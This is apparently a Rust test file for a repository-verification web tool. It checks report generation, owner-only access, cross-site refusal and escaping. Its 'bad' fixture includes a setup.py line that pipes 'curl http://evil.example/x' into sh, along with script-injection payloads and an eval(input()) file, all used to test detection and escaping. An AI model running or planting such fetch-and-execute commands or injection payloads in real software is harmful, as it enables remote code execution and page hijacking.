//! Reports on repositories in a browser without scripts.

use crate::{
    oss::{Repository, forge::Forge, good, program},
    support::{Home, Server, until},
    web_cards::{Browser, is_escaped},
};

fn encoded(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[test]
fn the_owner_verifies_a_repository_and_reads_the_evidence() {
    let home = Home::new();
    good(&home);
    let bad = Repository::new(
        &home,
        "bad",
        &[
            ("README.md", "# Плохой\n"),
            (
                "setup.py",
                "import os\nos.system(\"curl http://evil.example/x | sh\") # <script>alert(1)</script>\n",
            ),
            ("<img src=x onerror=alert(1)>.py", "eval(input())\n"),
        ],
    );
    let forge = Forge::start(&home, |_| None);
    forge.settings(&home, "build = false\n");
    let owner = home.token("owner");
    let server = Server::start(program(&home, &["serve", "--listen", "127.0.0.1:0"]));
    let browser = Browser::of(&server, &owner);
    assert!(browser.page("/reports").contains("There are no reports yet"));

    for name in ["good", "bad"] {
        let answer = browser.post("/reports", &[("repo_url", &forge.url(name))]);
        assert_eq!(answer.status, 303, "{}", answer.body);
        let place = answer.headers["location"].clone();
        assert_eq!(place, format!("/reports/of?repo={}", encoded(&forge.url(name))));
        let mut page = String::new();
        until("the report is there", || {
            page = browser.page(&place);
            // While it runs, the page refreshes itself.
            assert_eq!(page.contains("data-busy"), page.contains("http-equiv=\"refresh\""));
            !page.contains("data-busy")
        });
        assert!(page.contains("of 100") && page.contains("Checks"), "{page}");
        assert!(page.contains("Verify again") && page.contains("Sources"), "{page}");
        if name == "bad" {
            assert!(is_escaped(&page), "{page}");
            assert!(page.contains("setup.py:2"), "evidence has file and line: {page}");
        }
    }
    let list = browser.page("/reports");
    assert!(list.contains("/o/good") && list.contains("/o/bad"), "{list}");

    // A new commit gets a report of its own; the earlier one stays.
    bad.file("LICENSE", crate::oss::MIT);
    bad.commit(2, "ann@example.org");
    let place = format!("/reports/of?repo={}", encoded(&forge.url("bad")));
    assert_eq!(browser.post("/reports", &[("repo_url", &forge.url("bad"))]).status, 303);
    let mut page = String::new();
    until("the second report", || {
        page = browser.page(&place);
        page.contains("Reports on this repository")
    });
    let (_, rest) = page.split_once("&#38;commit=").or(page.split_once("&amp;commit=")).unwrap();
    let commit = rest.split('"').next().unwrap();
    let first = browser.page(&format!("{place}&commit={commit}"));
    assert!(first.contains(commit), "{first}");
    assert_eq!(browser.get(&format!("{place}&commit=0000")).status, 404);

    // What cannot be verified is refused with its reason.
    for wrong in ["", "no address", "https://evil.example/o/n", "http://github.com/o/n"] {
        let answer = browser.post("/reports", &[("repo_url", wrong)]);
        assert_eq!(answer.status, 422, "{wrong}: {}", answer.body);
        assert!(answer.body.contains("role=\"alert\""), "{wrong}");
    }
    let failing = forge.url("missing");
    assert_eq!(browser.post("/reports", &[("repo_url", &failing)]).status, 303);
    let place = format!("/reports/of?repo={}", encoded(&failing));
    until("the failure is shown", || browser.page(&place).contains("The last verification failed"));
    assert_eq!(browser.get("/reports/of?repo=nothing").status, 404);
    assert_eq!(browser.get("/reports/of").status, 400);
}

#[test]
fn reports_are_for_the_owner() {
    let home = Home::new();
    let reader = home.token("reader");
    let server = home.serve();
    for browser in [Browser::of(&server, &reader), Browser::stranger(&server)] {
        assert_eq!(browser.get("/reports").status, 403);
        assert_eq!(browser.get("/reports/of?repo=x").status, 403);
        let answer = browser.post("/reports", &[("repo_url", "https://github.com/o/n")]);
        assert_eq!(answer.status, 403);
        assert!(!browser.page("/").contains("href=\"/reports\""));
    }
    let owner = format!("Bearer {}", home.token("owner"));
    let headers = [
        ("Authorization", owner.as_str()),
        ("Sec-Fetch-Site", "cross-site"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let foreign = server.send("POST", "/reports", &headers, b"repo_url=https://github.com/o/n");
    assert_eq!(foreign.status, 403, "{}", foreign.body);
}
